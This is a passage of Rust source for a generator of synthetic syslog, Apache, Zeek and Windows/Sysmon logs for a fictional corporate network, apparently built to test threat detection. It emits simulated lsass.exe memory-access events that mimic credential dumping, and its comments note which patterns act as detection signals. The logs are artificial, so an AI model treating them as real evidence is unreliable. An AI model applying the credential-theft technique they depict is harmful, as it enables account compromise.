                put_u64(out, 600 + (splitmix(victim) % 200) * 4);
                out.extend_from_slice(b"\",\"TargetImage\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"GrantedAccess\":\"");
                out.extend_from_slice(if n.is_multiple_of(2) { b"0x1010" } else { b"0x1410" });
                out.extend_from_slice(b"\",\"CallTrace\":\"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A41B2C3D)\",\"SourceUser\":\"CORP\\\\");
                put_user(out, victim);
                out.extend_from_slice(b"\",\"TargetUser\":\"NT AUTHORITY\\\\SYSTEM\"}");
            }
        }
    }

    fn syslog_head(&mut self, out: &mut Vec<u8>, server: u64, process: &[u8], pid: u64) {
        out.extend_from_slice(&self.clock.syslog);
        out.push(b' ');
        self.world.put_server(out, server);
        out.push(b' ');
        out.extend_from_slice(process);
        out.push(b'[');
        put_u64(out, pid);
        out.extend_from_slice(b"]: ");
    }

    fn new_uid(&mut self) -> [u8; 18] {
        let mut uid = [0; 18];
        uid[0] = b'C';
        let (mut a, mut b) = (self.rng.next_u64(), self.rng.next_u64());
        for (i, slot) in uid[1..].iter_mut().enumerate() {
            let r = if i < 9 { &mut a } else { &mut b };
            *slot = BASE62[(*r % 62) as usize];
            *r /= 62;
        }
        uid
    }

    fn zeek_tsv_header(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(b"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t");
        put_zeek_stamp(out, self.clock.start_us.div_euclid(1000));
        out.extend_from_slice(
            b"\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n",
        );
    }

    fn port(&mut self) -> u64 {
        self.rng.gen_range(1024..65535)
    }

    // ---- syslog -------------------------------------------------------------------------------

    fn syslog(&mut self, out: &mut Vec<u8>) {
        out.extend_from_slice(&self.clock.syslog);
        out.push(b' ');
        let server = self.world.server_in(&mut self.rng, LINUX_ROLES);
        self.world.put_server(out, server);
        let pid = self.rng.gen_range(900..65_000u64);
        match self.rng.gen_range(0..100u32) {
            0..=78 => {
                out.extend_from_slice(b" sshd[");
                put_u64(out, pid);
                out.extend_from_slice(b"]: ");
                self.sshd(out);
            }
            79..=90 => {
                let user = self.world.user(&mut self.rng);
                match self.rng.gen_range(0..10u32) {
                    0..=5 => {
                        out.extend_from_slice(b" sudo:   ");
                        put_user(out, user);
                        out.extend_from_slice(b" : TTY=pts/");
                        put_u64(out, self.rng.gen_range(0..6));
                        out.extend_from_slice(b" ; PWD=/home/");
                        put_user(out, user);
                        out.extend_from_slice(b" ; USER=root ; COMMAND=");
                        out.extend_from_slice(pick(&mut self.rng, SUDO_COMMANDS));
                    }
                    6..=7 => {
                        out.extend_from_slice(b" sudo: pam_unix(sudo:session): session opened for user root by ");
                        put_user(out, user);
                        out.extend_from_slice(b"(uid=0)");
                    }
                    _ => out.extend_from_slice(b" sudo: pam_unix(sudo:session): session closed for user root"),
                }
            }
            _ => {
                out.extend_from_slice(b" CRON[");
                put_u64(out, pid);
                out.extend_from_slice(b"]: ");
                let (user, command) = CRON_JOBS[self.rng.gen_range(0..CRON_JOBS.len())];
                match self.rng.gen_range(0..3u32) {
                    0 => {
                        out.extend_from_slice(b"pam_unix(cron:session): session opened for user ");
                        out.extend_from_slice(user);
                        out.extend_from_slice(b" by (uid=0)");
                    }
                    1 => {
                        out.push(b'(');
                        out.extend_from_slice(user);
                        out.extend_from_slice(b") CMD (");
                        out.extend_from_slice(command);
                        out.push(b')');
                    }
                    _ => {
                        out.extend_from_slice(b"pam_unix(cron:session): session closed for user ");
                        out.extend_from_slice(user);
                    }
                }
            }
        }
    }

    fn sshd(&mut self, out: &mut Vec<u8>) {
        let user = self.world.user(&mut self.rng);
        // Staff connect from their workstation or, off-site, through the VPN's public range.
        let staff_ip = if self.rng.gen_range(0..5u32) == 0 { self.world.client_ip(user) } else { self.world.ws_ip(user) };
        let port = self.port();
        match self.rng.gen_range(0..100u32) {
            0..=17 => {
                out.extend_from_slice(b"Accepted publickey for ");
                put_user(out, user);
                out.extend_from_slice(b" from ");
                put_ipv4(out, staff_ip);
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" ssh2: ");
                put_key_fingerprint(out, user);
            }
            18..=22 => {
                out.extend_from_slice(b"Accepted password for ");
                put_user(out, user);
                out.extend_from_slice(b" from ");
                put_ipv4(out, staff_ip);
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" ssh2");
            }
            23..=40 => {
                out.extend_from_slice(b"pam_unix(sshd:session): session opened for user ");
                put_user(out, user);
                out.extend_from_slice(b" by (uid=0)");
            }
            41..=56 => {
                out.extend_from_slice(b"pam_unix(sshd:session): session closed for user ");
                put_user(out, user);
            }
            57..=60 => {
                // Mistyped passwords come from anyone, not in proportion to how busy a user is:
                // no staff address piles up failures the way a guesser does.
                let user = self.rng.gen_range(0..self.world.users);
                out.extend_from_slice(b"Failed password for ");
                put_user(out, user);
                out.extend_from_slice(b" from ");
                put_ipv4(out, self.world.ws_ip(user));
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" ssh2");
            }
            // Background noise from the internet: single guesses spread over many sources.
            61..=68 => {
                out.extend_from_slice(b"Failed password for invalid user ");
                out.extend_from_slice(pick(&mut self.rng, INVALID_USERS));
                out.extend_from_slice(b" from ");
                put_ipv4(out, self.world.scanner_ip(&mut self.rng));
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" ssh2");
            }
            69..=76 => {
                out.extend_from_slice(b"Invalid user ");
                out.extend_from_slice(pick(&mut self.rng, INVALID_USERS));
                out.extend_from_slice(b" from ");
                put_ipv4(out, self.world.scanner_ip(&mut self.rng));
                out.extend_from_slice(b" port ");
                put_u64(out, port);
            }
            77..=80 => {
                out.extend_from_slice(b"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=");
                put_ipv4(out, self.world.scanner_ip(&mut self.rng));
                out.extend_from_slice(b"  user=root");
            }
            81..=88 => {
                out.extend_from_slice(b"Connection closed by ");
                put_ipv4(out, self.world.scanner_ip(&mut self.rng));
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" [preauth]");
            }
            89..=94 => {
                out.extend_from_slice(b"Received disconnect from ");
                put_ipv4(out, staff_ip);
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b":11: disconnected by user");
            }
            _ => {
                out.extend_from_slice(b"Disconnected from user ");
                put_user(out, user);
                out.push(b' ');
                put_ipv4(out, staff_ip);
                out.extend_from_slice(b" port ");
                put_u64(out, port);
            }
        }
    }

    // ---- apache -------------------------------------------------------------------------------

    fn apache(&mut self, out: &mut Vec<u8>) {
        let client = self.world.client(&mut self.rng);
        let staff = match self.rng.gen_range(0..100u32) {
            0..=2 => {
                put_ipv6(out, client);
                false
            }
            3..=9 => {
                put_ipv4(out, self.world.ws_ip(client % self.world.users));
                true
            }
            _ => {
                put_ipv4(out, self.world.client_ip(client));
                false
            }
        };
        out.extend_from_slice(b" - ");
        if self.rng.gen_range(0..25u32) == 0 {
            put_user(out, self.world.user(&mut self.rng));
        } else {
            out.push(b'-');
        }
        out.extend_from_slice(b" [");
        out.extend_from_slice(&self.clock.clf);
        out.extend_from_slice(b"] \"");

        let (path, kind) = PAGES[skewed(&mut self.rng, PAGES.len() as u64) as usize];
        let roll = self.rng.gen_range(0..100u32);
        let method: &[u8] = match kind {
            PageKind::Form if roll < 40 => b"POST",
            PageKind::Api | PageKind::ApiItem => match roll {
                0..=59 => b"GET",
                60..=89 => b"POST",
                90..=94 => b"PUT",
                _ => b"OPTIONS",
            },
            _ if roll < 3 => b"HEAD",
            _ => b"GET",
        };
        let post = method == b"POST";
        let roll = self.rng.gen_range(0..1000u32);
        let status: u64 = match kind {
            PageKind::Asset | PageKind::Image => match roll {
                0..=779 => 200,
                780..=949 if method == b"GET" => 304,
                780..=949 => 200,
                950..=994 => 404,
                _ => 403,
            },
            // Forms answer a POST with a redirect (post/redirect/get) or a failed login.
            PageKind::Form if post => match roll {
                0..=599 => 302,
                600..=849 => 200,
                850..=929 => 401,
                930..=969 => 403,
                970..=989 => 400,
                _ => 500,
            },
            PageKind::Api | PageKind::ApiItem => match roll {
                0..=849 if post => 201,
                0..=849 => 200,
                850..=909 => 400,
                910..=939 => 401,
                940..=959 => 403,
                960..=979 => 404,
                980..=994 => 500,
                _ => 503,
            },
            _ => match roll {
                0..=869 => 200,
                870..=889 => 301,
                890..=909 => 302,
                910..=964 => 404,
                965..=979 => 403,
                980..=994 => 500,
                _ => 503,
            },
        };
        // A missing product or item is one of a few discontinued ones that stale links still
        // point to: a client's distinct 404 paths stay bounded, unlike a content scanner's.
        let gone = status == 404;
        out.extend_from_slice(method);
        out.push(b' ');
        out.extend_from_slice(path);
        match kind {
            PageKind::Product if gone => put_u64(out, DISCONTINUED[self.rng.gen_range(0..DISCONTINUED.len())]),
            PageKind::Product => put_u64(out, 1000 + skewed(&mut self.rng, 5000)),
            PageKind::Search => {
                out.extend_from_slice(pick(&mut self.rng, SEARCH_WORDS));
                out.extend_from_slice(b"&page=");
                put_u64(out, 1 + skewed(&mut self.rng, 8));
            }
            PageKind::ApiItem => {
                put_u64(out, if gone { DISCONTINUED[self.rng.gen_range(0..DISCONTINUED.len())] } else { 1000 + skewed(&mut self.rng, 5000) });
                out.extend_from_slice(b"?fields=price,stock");
            }
            _ => {}
        }
        out.extend_from_slice(match self.rng.gen_range(0..100u32) {
            0..=86 => b" HTTP/1.1\" ",
            87..=96 => b" HTTP/2.0\" ",
            _ => b" HTTP/1.0\" ",
        });

        put_u64(out, status);
        out.push(b' ');
        if status == 304 || method == b"HEAD" || status == 301 || status == 302 && self.rng.gen_bool(0.5) {
            out.push(b'-');
        } else {
            let size = match (status, kind) {
                (200 | 201, PageKind::Image) => 1_000 + skewed(&mut self.rng, 300_000),
                (200 | 201, PageKind::Asset) => 2_000 + skewed(&mut self.rng, 200_000),
                (200 | 201, PageKind::Api | PageKind::ApiItem) => 80 + skewed(&mut self.rng, 8_000),
                (200 | 201, _) => 3_000 + skewed(&mut self.rng, 60_000),
                _ => self.rng.gen_range(150..700),
            };
            put_u64(out, size);
        }

        out.extend_from_slice(b" \"");
        match self.rng.gen_range(0..100u32) {
            0..=34 => out.push(b'-'),
            35..=79 => {
                out.extend_from_slice(b"https://www.example.com");
                out.extend_from_slice(REFERRER_PATHS[skewed(&mut self.rng, REFERRER_PATHS.len() as u64) as usize]);
            }
            80..=94 => out.extend_from_slice(b"https://www.google.com/"),
            _ => out.extend_from_slice(b"https://www.bing.com/"),
        }
        out.extend_from_slice(b"\" \"");
        // A client keeps its browser; a few requests come from other tools on the same address.
        // Staff on the office network browse; crawlers and scripts come from outside.
        let agents = if staff { BROWSERS } else { USER_AGENTS.len() };
        let ua = if self.rng.gen_range(0..10u32) == 0 { self.rng.gen_range(0..agents) } else { (splitmix(client) % agents as u64) as usize };
        out.extend_from_slice(USER_AGENTS[ua]);
        out.push(b'"');
    }

    // ---- zeek ---------------------------------------------------------------------------------

    fn conn(&mut self) -> Conn {
        let user = self.world.user(&mut self.rng);
        let ws = self.world.ws_ip(user);
        let uid = self.new_uid();
        let w = &self.world;
        let rng = &mut self.rng;
        let mut c = Conn {
            uid,
            orig: ws,
            orig_p: rng.gen_range(1024..65535),
            resp: [0; 4],
            resp_p: 443,
            proto: b"tcp",
            service: None,
            state: b"SF",
            history: None,
            duration_us: None,
            bytes: None,
            orig_pkts: 0,
            resp_pkts: 0,
        };
        let dc = w.server_ip(w.server_of(rng, Role::Dc));
        let roll = rng.gen_range(0..100u32);
        match roll {
            0..=29 => {
                c.resp = w.dest_ip(rng);
                c.service = Some(b"ssl");
            }
            30..=34 => {
                c.resp = w.dest_ip(rng);
                c.resp_p = 80;
                c.service = Some(b"http");
            }
            35..=59 => {
                c.resp = dc;
                c.resp_p = 53;
                c.proto = b"udp";
                c.service = Some(b"dns");
            }
            60..=64 => {
                c.resp = dc;
                c.resp_p = 88;
                if rng.gen_bool(0.3) {
                    c.proto = b"udp";
                    c.service = Some(b"krb");
                } else {
                    c.service = Some(b"krb_tcp");
                }
            }
            65..=69 => {
                c.resp = w.server_ip(w.server_of(rng, Role::File));
                c.resp_p = 445;
                c.service = Some(b"smb");
            }
            70..=72 => {
                c.resp = dc;
                c.resp_p = 389;
                c.service = Some(b"ldap");
            }
            73..=74 => {
                c.resp = w.dest_ip(rng);
                c.resp_p = 123;
                c.proto = b"udp";
                c.service = Some(b"ntp");
            }
            75..=86 => {
                let client = w.client(rng);
                c.orig = w.client_ip(client);
                c.resp = w.server_ip(w.server_of(rng, Role::Web));
                c.service = Some(b"ssl");
            }
            87..=89 => {
                c.orig = w.scanner_ip(rng);
                c.resp = w.server_ip(w.server_of(rng, Role::Bastion));
                c.resp_p = 22;
                c.service = Some(b"ssh");
            }
            90..=92 => {
                c.resp = w.server_ip(w.server(rng));
                c.resp_p = 22;
                c.service = Some(b"ssh");
            }
            93..=94 => {
                c.resp = w.server_ip(w.server(rng));
                c.resp_p = 3389;
                c.service = Some(b"rdp");
            }
            95..=97 => {
                c.resp = w.server_ip(w.server(rng));
                c.proto = b"icmp";
                c.orig_p = 8;
                c.resp_p = 0;
            }
            _ => {
                c.orig = w.scanner_ip(rng);
                c.resp = w.server_ip(w.server(rng));
                c.resp_p = rng.gen_range(1..10_000);
            }
        }

        // Internet background scanning mostly goes unanswered; the rest mostly completes.
        let state_roll = if roll >= 98 {
            rng.gen_range(90..100u32)
        } else if (87..=89).contains(&roll) {
            rng.gen_range(60..100u32)
        } else {
            rng.gen_range(0..100u32)
        };
        match (c.proto, state_roll) {
            (b"icmp", _) => {
                c.state = b"OTH";
                c.orig_pkts = rng.gen_range(1..5);
                c.resp_pkts = c.orig_pkts;
                c.duration_us = Some(rng.gen_range(10..4_000_000));
                c.bytes = Some((c.orig_pkts * 56, c.resp_pkts * 56));
            }
            (b"udp", 0..=94) => {
                c.history = Some(b"Dd");
                c.orig_pkts = rng.gen_range(1..3);
                c.resp_pkts = c.orig_pkts;
                c.duration_us = Some(rng.gen_range(200..200_000));
                c.bytes = Some((c.orig_pkts * rng.gen_range(30..90), c.resp_pkts * rng.gen_range(60..500)));
            }
            (b"udp", _) => {
                c.state = b"S0";
                c.history = Some(b"D");
                c.orig_pkts = 1;
                c.service = None;
            }
            (_, 0..=87) => {
                c.history = Some(pick(rng, TCP_HISTORIES));
                let orig_bytes = 100 + skewed(rng, 20_000);
                let resp_bytes = 200 + skewed(rng, 3_000_000);
                c.orig_pkts = 3 + orig_bytes / 1_200 + rng.gen_range(0..6);
                c.resp_pkts = 2 + resp_bytes / 1_400 + rng.gen_range(0..6);
                // At most ~50 Mbit/s per connection, plus think time.
                c.duration_us = Some(2_000 + resp_bytes / 6 + skewed(rng, 120_000_000));
                c.bytes = Some((orig_bytes, resp_bytes));
            }
            (_, 88..=89) => {
                c.state = b"S1";
                c.history = Some(b"ShADad");
                let orig_bytes = 100 + skewed(rng, 5_000);
                c.orig_pkts = 3 + rng.gen_range(0..6);
                c.resp_pkts = 2 + rng.gen_range(0..6);
                c.duration_us = Some(2_000 + skewed(rng, 60_000_000));
                c.bytes = Some((orig_bytes, 100 + skewed(rng, 50_000)));
            }
            (_, 90..=91) => {
                let originator = rng.gen_bool(0.5);
                c.state = if originator { b"RSTO" } else { b"RSTR" };
                c.history = Some(if originator { b"ShADadR" } else { b"ShADadr" });
                c.orig_pkts = 3 + rng.gen_range(0..6);
                c.resp_pkts = 2 + rng.gen_range(0..6);
                c.duration_us = Some(1_000 + skewed(rng, 10_000_000));
                c.bytes = Some((100 + skewed(rng, 2_000), skewed(rng, 20_000)));
            }
            (_, 92..=95) => {
                c.state = b"REJ";
                c.history = Some(b"Sr");
                c.orig_pkts = 1;
                c.resp_pkts = 1;
                c.duration_us = Some(rng.gen_range(20..3_000));
                c.bytes = Some((0, 0));
                c.service = None;
            }
            _ => {
                c.state = b"S0";
                c.history = Some(b"S");
                c.orig_pkts = rng.gen_range(1..4);
                if c.orig_pkts > 1 {
                    c.duration_us = Some(rng.gen_range(900_000..6_000_000));
                    c.bytes = Some((0, 0));
                }
                c.service = None;
            }
        }
        c
    }

    fn conn_json(&self, c: &Conn, out: &mut Vec<u8>) {
        out.extend_from_slice(b"{\"ts\":");
        self.clock.put_epoch_micros(out);
        out.extend_from_slice(b",\"uid\":\"");
        out.extend_from_slice(&c.uid);
        out.extend_from_slice(b"\",\"id.orig_h\":\"");
        put_ipv4(out, c.orig);
        out.extend_from_slice(b"\",\"id.orig_p\":");
        put_u64(out, c.orig_p);
        out.extend_from_slice(b",\"id.resp_h\":\"");
        put_ipv4(out, c.resp);
        out.extend_from_slice(b"\",\"id.resp_p\":");
        put_u64(out, c.resp_p);
        out.extend_from_slice(b",\"proto\":\"");
        out.extend_from_slice(c.proto);
        out.push(b'"');
        if let Some(service) = c.service {
            out.extend_from_slice(b",\"service\":\"");
            out.extend_from_slice(service);
            out.push(b'"');
        }
        if let Some(us) = c.duration_us {
            out.extend_from_slice(b",\"duration\":");
            put_micros(out, us);
        }
        if let Some((orig, resp)) = c.bytes {
            out.extend_from_slice(b",\"orig_bytes\":");
            put_u64(out, orig);
            out.extend_from_slice(b",\"resp_bytes\":");
            put_u64(out, resp);
        }
        out.extend_from_slice(b",\"conn_state\":\"");
        out.extend_from_slice(c.state);
        out.extend_from_slice(b"\",\"local_orig\":");
        out.extend_from_slice(if is_local(c.orig) { b"true" } else { b"false" });
        out.extend_from_slice(b",\"local_resp\":");
        out.extend_from_slice(if is_local(c.resp) { b"true" } else { b"false" });
        out.extend_from_slice(b",\"missed_bytes\":0");
        if let Some(history) = c.history {
            out.extend_from_slice(b",\"history\":\"");
            out.extend_from_slice(history);
            out.push(b'"');
        }
        let (orig_ip, resp_ip) = c.ip_bytes();
        out.extend_from_slice(b",\"orig_pkts\":");
        put_u64(out, c.orig_pkts);
        out.extend_from_slice(b",\"orig_ip_bytes\":");
        put_u64(out, orig_ip);
        out.extend_from_slice(b",\"resp_pkts\":");
        put_u64(out, c.resp_pkts);
        out.extend_from_slice(b",\"resp_ip_bytes\":");
        put_u64(out, resp_ip);
        out.push(b'}');
    }

    fn conn_tsv(&self, c: &Conn, out: &mut Vec<u8>) {
        self.clock.put_epoch_micros(out);
        out.push(b'\t');
        out.extend_from_slice(&c.uid);
        out.push(b'\t');
        put_ipv4(out, c.orig);
        out.push(b'\t');
        put_u64(out, c.orig_p);
        out.push(b'\t');
        put_ipv4(out, c.resp);
        out.push(b'\t');
        put_u64(out, c.resp_p);
        out.push(b'\t');
        out.extend_from_slice(c.proto);
        out.push(b'\t');
        out.extend_from_slice(c.service.unwrap_or(b"-"));
        out.push(b'\t');
        match c.duration_us {
            Some(us) => put_micros(out, us),
            None => out.push(b'-'),
        }
        match c.bytes {
            Some((orig, resp)) => {
                out.push(b'\t');
                put_u64(out, orig);
                out.push(b'\t');
                put_u64(out, resp);
            }
            None => out.extend_from_slice(b"\t-\t-"),
        }
        out.push(b'\t');
        out.extend_from_slice(c.state);
        out.extend_from_slice(if is_local(c.orig) { b"\tT" } else { b"\tF" });
        out.extend_from_slice(if is_local(c.resp) { b"\tT" } else { b"\tF" });
        out.extend_from_slice(b"\t0\t");
        out.extend_from_slice(c.history.unwrap_or(b"-"));
        let (orig_ip, resp_ip) = c.ip_bytes();
        for v in [c.orig_pkts, orig_ip, c.resp_pkts, resp_ip] {
            out.push(b'\t');
            put_u64(out, v);
        }
        out.extend_from_slice(b"\t-");
    }

    // ---- windows ------------------------------------------------------------------------------

    /// Writes the fields every Windows event starts with, up to and including a trailing comma.
    fn win_head(&self, out: &mut Vec<u8>, host: Host, event_id: u64, channel: Channel) {
        out.extend_from_slice(b"{\"@timestamp\":\"");
        out.extend_from_slice(&self.clock.iso);
        out.push(b'.');
        put_padded(out, self.clock.millis(), 3);
        out.extend_from_slice(b"Z\",\"Hostname\":\"");
        self.world.put_host(out, host);
        out.extend_from_slice(b".corp.example.com\",\"EventID\":");
        put_u64(out, event_id);
        out.extend_from_slice(match channel {
            Channel::Success => b",\"Channel\":\"Security\",\"SourceName\":\"Microsoft-Windows-Security-Auditing\",\"EventType\":\"AUDIT_SUCCESS\",",
            Channel::Failure => b",\"Channel\":\"Security\",\"SourceName\":\"Microsoft-Windows-Security-Auditing\",\"EventType\":\"AUDIT_FAILURE\",",
            Channel::Sysmon => b",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"EventType\":\"INFO\",",
        });
        out.extend_from_slice(b"\"RecordNumber\":");
        put_u64(out, self.emitted + 1);
        out.push(b',');
    }

    fn windows(&mut self, out: &mut Vec<u8>) {
        let user = self.world.user(&mut self.rng);
        match self.rng.gen_range(0..100u32) {
            0..=29 => self.win_logon(out, user),
            30..=33 => self.win_logon_failure(out, user),
            34..=48 => self.win_service_ticket(out, user),
            49..=66 => self.win_process(out, user, false),
            67..=81 => self.win_process(out, user, true),
            82..=93 => self.win_network(out, user),
            _ => self.win_process_access(out, user),
        }
        out.push(b'}');
    }

    fn win_logon(&mut self, out: &mut Vec<u8>, user: u64) {
        let roll = self.rng.gen_range(0..100u32);
        let host = match roll {
            0..=39 => Host::Ws(user),
            // A user's network logons go to the few servers they work with (home share, mail,
            // an application): at most three each, so one account fanning out is a signal.
            _ => Host::Server(self.world.user_server(user, self.rng.gen_range(0..3))),
        };
        self.win_head(out, host, 4624, Channel::Success);
        if roll < 12 {
            out.extend_from_slice(b"\"TargetUserSid\":\"S-1-5-18\",\"TargetUserName\":\"SYSTEM\",\"TargetDomainName\":\"NT AUTHORITY\",\"TargetLogonId\":\"0x3e7\",\"LogonType\":\"5\",\"LogonProcessName\":\"Advapi  \",\"AuthenticationPackageName\":\"Negotiate\",\"WorkstationName\":\"-\",\"IpAddress\":\"-\",\"IpPort\":\"-\"");
            return;
        }
        self.target_user(out, user);
        out.extend_from_slice(b",\"TargetLogonId\":\"0x");
        put_hex(out, self.rng.gen_range(0x10000..0x1000_0000));
        match roll {
            12..=39 => {
                out.extend_from_slice(match self.rng.gen_range(0..10u32) {
                    0..=5 => b"\",\"LogonType\":\"2\"",
                    6..=8 => b"\",\"LogonType\":\"7\"",
                    _ => b"\",\"LogonType\":\"11\"",
                });
                out.extend_from_slice(b",\"LogonProcessName\":\"User32 \",\"AuthenticationPackageName\":\"Negotiate\",\"WorkstationName\":\"");
                self.world.put_host(out, Host::Ws(user));
                out.extend_from_slice(b"\",\"IpAddress\":\"127.0.0.1\",\"IpPort\":\"0\"");
            }
            _ => {
                let (logon_type, process, package): (&[u8], &[u8], &[u8]) = match self.rng.gen_range(0..100u32) {
                    0..=74 => (b"3", b"Kerberos", b"Kerberos"),
                    75..=94 => (b"3", b"NtLmSsp ", b"NTLM"),
                    _ => (b"10", b"User32 ", b"Negotiate"),
                };
                out.extend_from_slice(b"\",\"LogonType\":\"");
                out.extend_from_slice(logon_type);
                out.extend_from_slice(b"\",\"LogonProcessName\":\"");
                out.extend_from_slice(process);
                out.extend_from_slice(b"\",\"AuthenticationPackageName\":\"");
                out.extend_from_slice(package);
                out.extend_from_slice(b"\",\"WorkstationName\":\"");
                self.world.put_host(out, Host::Ws(user));
                out.extend_from_slice(b"\",\"IpAddress\":\"");
                put_ipv4(out, self.world.ws_ip(user));
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, self.port());
                out.push(b'"');
            }
        }
    }

    fn win_logon_failure(&mut self, out: &mut Vec<u8>, user: u64) {
        let remote = self.rng.gen_bool(0.7);
        let host = if remote { Host::Server(self.world.server_in(&mut self.rng, WINDOWS_ROLES)) } else { Host::Ws(user) };
        self.win_head(out, host, 4625, Channel::Failure);
        out.extend_from_slice(b"\"TargetUserSid\":\"S-1-0-0\",\"TargetUserName\":\"");
        // Mostly a mistyped password; sometimes a mistyped or stale account name.
        let unknown = self.rng.gen_range(0..7u32) == 0;
        if unknown {
            out.extend_from_slice(FIRST_NAMES[(user % FIRST_NAMES.len() as u64) as usize]);
        } else {
            put_user(out, user);
        }
        out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\",\"Status\":\"0xc000006d\",\"SubStatus\":\"");
        out.extend_from_slice(if unknown { b"0xc0000064" } else { b"0xc000006a" });
        out.extend_from_slice(b"\",\"FailureReason\":\"%%2313\",\"LogonType\":\"");
        out.extend_from_slice(if remote {
            b"3\",\"LogonProcessName\":\"NtLmSsp \",\"AuthenticationPackageName\":\"NTLM\""
        } else {
            b"2\",\"LogonProcessName\":\"User32 \",\"AuthenticationPackageName\":\"Negotiate\""
        });
        out.extend_from_slice(b",\"WorkstationName\":\"");
        self.world.put_host(out, Host::Ws(user));
        out.extend_from_slice(b"\",\"IpAddress\":\"");
        if remote {
            put_ipv4(out, self.world.ws_ip(user));
            out.extend_from_slice(b"\",\"IpPort\":\"");
            put_u64(out, self.port());
        } else {
            out.extend_from_slice(b"127.0.0.1\",\"IpPort\":\"0");
        }
        out.push(b'"');
    }

    fn win_service_ticket(&mut self, out: &mut Vec<u8>, user: u64) {
        let dc = self.world.server_of(&mut self.rng, Role::Dc);
        self.win_head(out, Host::Server(dc), 4769, Channel::Success);
        out.extend_from_slice(b"\"TargetUserName\":\"");
        put_user(out, user);
        out.extend_from_slice(b"@CORP.EXAMPLE.COM\",\"TargetDomainName\":\"CORP.EXAMPLE.COM\",\"ServiceName\":\"");
        let service_rid = match self.rng.gen_range(0..10u32) {
            0..=6 => {
                let server = self.world.server_in(&mut self.rng, WINDOWS_ROLES);
                self.world.put_server_upper(out, server);
                out.push(b'$');
                SERVER_RID_BASE + server
            }
            7..=8 => {
                let i = self.rng.gen_range(0..SERVICE_ACCOUNTS.len());
                out.extend_from_slice(SERVICE_ACCOUNTS[i]);
                SERVICE_RID_BASE + i as u64
            }
            _ => {
                out.extend_from_slice(b"krbtgt");
                502
            }
        };
        out.extend_from_slice(b"\",\"ServiceSid\":\"");
        out.extend_from_slice(DOMAIN_SID);
        put_u64(out, service_rid);
        out.extend_from_slice(b"\",\"TicketOptions\":\"");
        out.extend_from_slice(pick(&mut self.rng, TICKET_OPTIONS));
        // AES is the norm; a little RC4 from legacy clients keeps 0x17 from being a signal by itself.
        out.extend_from_slice(match self.rng.gen_range(0..100u32) {
            0..=96 => b"\",\"TicketEncryptionType\":\"0x12\"",
            97..=98 => b"\",\"TicketEncryptionType\":\"0x17\"",
            _ => b"\",\"TicketEncryptionType\":\"0x11\"",
        });
        out.extend_from_slice(b",\"IpAddress\":\"::ffff:");
        put_ipv4(out, self.world.ws_ip(user));
        out.extend_from_slice(b"\",\"IpPort\":\"");
        put_u64(out, self.port());
        out.extend_from_slice(b"\",\"Status\":\"0x0\",\"LogonGuid\":\"");
        put_guid(out, &mut self.rng);
        out.extend_from_slice(b"\",\"TransmittedServices\":\"-\"");
    }

    fn win_process(&mut self, out: &mut Vec<u8>, user: u64, sysmon: bool) {
        // Servers run services, not desktop applications.
        let (host, i) = if self.rng.gen_range(0..5u32) == 0 {
            let server = self.world.server_in(&mut self.rng, WINDOWS_ROLES);
            (Host::Server(server), SERVER_PROCS[self.rng.gen_range(0..SERVER_PROCS.len())])
        } else {
            (Host::Ws(user), skewed(&mut self.rng, PROCS.len() as u64) as usize)
        };
        let process = &PROCS[i];
        let system = process.system;
        if sysmon {
            self.win_head(out, host, 1, Channel::Sysmon);
            self.utc_time(out);
            out.extend_from_slice(b",\"ProcessGuid\":\"");
            put_guid(out, &mut self.rng);
            out.extend_from_slice(b"\",\"ProcessId\":\"");
            put_u64(out, self.rng.gen_range(400..30_000) & !3);
            out.extend_from_slice(b"\",\"Image\":\"");
            out.extend_from_slice(process.image);
            out.extend_from_slice(b"\",\"CommandLine\":\"");
            out.extend_from_slice(process.command_line);
            out.extend_from_slice(b"\",\"CurrentDirectory\":\"");
            if system {
                out.extend_from_slice(b"C:\\\\Windows\\\\system32\\\\");
            } else {
                out.extend_from_slice(b"C:\\\\Users\\\\");
                put_user(out, user);
                out.extend_from_slice(b"\\\\");
            }
            out.extend_from_slice(b"\",\"User\":\"");
            if system {
                out.extend_from_slice(b"NT AUTHORITY\\\\SYSTEM");
            } else {
                out.extend_from_slice(b"CORP\\\\");
                put_user(out, user);
            }
            out.extend_from_slice(b"\",\"LogonId\":\"0x");
            put_hex(out, if system { 0x3e7 } else { self.rng.gen_range(0x10000..0x1000_0000) });
            out.extend_from_slice(if system {
                b"\",\"IntegrityLevel\":\"System\",\"Hashes\":\"SHA256="
            } else {
                b"\",\"IntegrityLevel\":\"Medium\",\"Hashes\":\"SHA256="
            });
            out.extend_from_slice(&self.sha256[i]);
            out.extend_from_slice(b"\",\"ParentImage\":\"");
            out.extend_from_slice(process.parent);
            out.extend_from_slice(b"\",\"ParentCommandLine\":\"");
            out.extend_from_slice(process.parent_command_line);
            out.push(b'"');
        } else {
            self.win_head(out, host, 4688, Channel::Success);
            if system {
                out.extend_from_slice(b"\"SubjectUserSid\":\"S-1-5-18\",\"SubjectUserName\":\"");
                self.world.put_host_upper(out, host);
